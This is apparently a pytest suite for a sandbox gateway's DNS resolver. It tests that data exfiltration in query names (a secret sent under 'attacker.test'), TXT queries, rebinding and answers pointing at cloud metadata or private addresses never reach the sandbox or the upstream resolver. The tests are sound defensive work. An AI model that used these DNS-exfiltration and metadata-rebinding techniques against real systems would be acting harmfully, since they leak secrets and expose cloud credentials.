"""DNS from the sandbox position: the gateway's resolver is the sandbox's only resolver.

Escapes tried: data exfiltration in query names (a name the policy does not allow must never reach the
upstream resolver), exfil-friendly query types (TXT), names that resolve to forbidden addresses or
rebind (the sandbox must never be *handed* a forbidden address), the metadata host name, and a source
nobody admitted. Positive controls: an allowed name resolves through the gateway (and the world's
resolver logs the gateway's query), and the same exfil query sent straight to the world's resolver
from the firewall-less ``open`` namespace is logged (the log would show a leak).
"""

from __future__ import annotations

import ipaddress
import re
import secrets

import pytest

import tests.networld as nw
from tests.networld import World
from tests.support.netgateway import Gateway, Sandbox

pytestmark = pytest.mark.netns

FORBIDDEN_ANSWERS = {"127.0.0.1", "10.0.0.5", "169.254.169.254", "100.100.100.200", "168.63.129.16",
                     "::ffff:169.254.169.254", "::ffff:a9fe:a9fe", "fd00:ec2::254", "64:ff9b::a9fe:a9fe"}


@pytest.fixture(scope="module")
def dns_sbx(gateway: Gateway) -> Sandbox:
    return gateway.admit("escape-dns", address=nw.SBX)


def ask(world: World, gateway: Gateway, name: str, qtype: str = "A", tcp: bool = False,
        ns: str | None = None) -> tuple[str, list[str]]:
    """(rcode text, answer addresses) for one query to the gateway's DNS listener."""
    host, port = gateway.dns
    res = world.exec(ns or world.sbx, "dig", "+tcp" if tcp else "+notcp", "+time=3", "+tries=1", "+noall",
                     "+comments", "+answer", f"@{host}", "-p", str(port), name, qtype)
    m = re.search(r"status: ([A-Z]+)", res.stdout)
    status = m.group(1) if m else f"no-answer rc={res.returncode} {res.stdout[-200:]!r}"
    answers = [line.split()[-1] for line in res.stdout.splitlines()
               if line and not line.startswith(";") and len(line.split()) >= 5]
    return status, answers


def _canon(addr: str) -> str:
    return str(ipaddress.ip_address(addr))


def _forbidden(answers: list[str]) -> list[str]:
    forbidden = {_canon(a) for a in FORBIDDEN_ANSWERS}
    return [a for a in answers if _canon(a) in forbidden]


@pytest.mark.parametrize("tcp", [False, True])
def test_positive_control_allowed_name_resolves_through_gateway(
    world: World, gateway: Gateway, dns_sbx: Sandbox, tcp: bool
) -> None:
    mark = world.mark()
    status, answers = ask(world, gateway, "api.allowed.test", tcp=tcp)
    assert (status, answers) == ("NOERROR", [nw.UPSTREAM])
    [query] = [q for q in world.dns_queries(mark) if q["qname"] == "api.allowed.test" and q["qtype"] == "A"]
    assert query["peer"].startswith(nw.GW_NET + ":"), "the world resolver must hear the gateway, not the sandbox"


@pytest.mark.parametrize("tcp", [False, True])
def test_exfil_in_query_name_never_reaches_upstream(
    world: World, gateway: Gateway, dns_sbx: Sandbox, tcp: bool
) -> None:
    secret = secrets.token_hex(8)
    name = f"{secret}.aws-key.attacker.test"
    mark = world.mark()
    status, answers = ask(world, gateway, name, tcp=tcp)
    # network.dns.deny_answer: gateway (the default): the name points at the gateway (the host end of the
    # sandbox's link), so a transparent client gets the deny over TLS; nothing is asked upstream
    assert (status, answers) == ("NOERROR", [nw.GW_SBX])
    assert [q for q in world.dns_queries(mark) if secret in q["qname"]] == []
    # positive control: the same query straight to the world resolver is logged
    world.exec(world.open, "dig", "+short", f"@{nw.DNS_ADDR}", name)
    assert [q for q in world.dns_queries(mark) if secret in q["qname"]]


def test_txt_query_for_allowed_name_is_refused_and_not_forwarded(
    world: World, gateway: Gateway, dns_sbx: Sandbox
) -> None:
    mark = world.mark()
    status, answers = ask(world, gateway, "api.allowed.test", "TXT")
    assert status in ("REFUSED", "NXDOMAIN") and answers == []
    assert [q for q in world.dns_queries(mark) if q["qtype"] == "TXT"] == []


@pytest.mark.parametrize(("name", "qtype"), [
    ("metadata.evil.test", "A"), ("private.evil.test", "A"), ("loopback.evil.test", "A"),
    ("cgnat.evil.test", "A"), ("wireserver.evil.test", "A"), ("mixed.evil.test", "A"),
    ("mapped.evil.test", "AAAA"), ("v6meta.evil.test", "AAAA"), ("nat64.evil.test", "AAAA"),
    ("metadata.google.internal", "A"),
])
def test_sandbox_is_never_handed_a_forbidden_address(
    world: World, gateway: Gateway, dns_sbx: Sandbox, name: str, qtype: str
) -> None:
    mark = world.mark()
    status, answers = ask(world, gateway, name, qtype)
    assert _forbidden(answers) == [], (status, answers)
    assert status in ("NOERROR", "NXDOMAIN", "REFUSED"), status
    if name != "metadata.google.internal":  # the gateway may refuse that name without asking upstream
        served = [q for q in world.dns_queries(mark) if q["qname"] == name and q["qtype"] == qtype]
        assert any(_forbidden(q["answers"]) for q in served), f"forbidden answer never delivered: {served}"
    # positive control: the upstream really serves the forbidden answer for this name
    direct = world.exec(world.open, "dig", "+short", f"@{nw.DNS_ADDR}", name, qtype).stdout.split()
    assert _forbidden(direct), direct


def test_rebinding_answers_never_reach_the_sandbox(world: World, gateway: Gateway, dns_sbx: Sandbox) -> None:
    mark = world.mark()
    seen: list[str] = []
    for _ in range(6):
        seen += ask(world, gateway, "rebind.evil.test")[1]
    assert _forbidden(seen) == [], seen
    served = [q for q in world.dns_queries(mark) if q["qname"] == "rebind.evil.test"]
    assert any("169.254.169.254" in q["answers"] for q in served), f"rebinding answer never delivered: {served}"
    assert nw.UPSTREAM in seen, "positive control: the benign answer should reach the sandbox"


def test_unadmitted_source_gets_nothing(world: World, gateway: Gateway, dns_sbx: Sandbox) -> None:
    """The `open` namespace can route to the gateway's DNS listener but was never admitted."""
    mark = world.mark()
    secret = secrets.token_hex(6)
    status, answers = ask(world, gateway, f"{secret}.evil.test", ns=world.open)
    assert status in ("REFUSED", "NXDOMAIN") and answers == [], status
    assert [q for q in world.dns_queries(mark) if secret in q["qname"]] == []
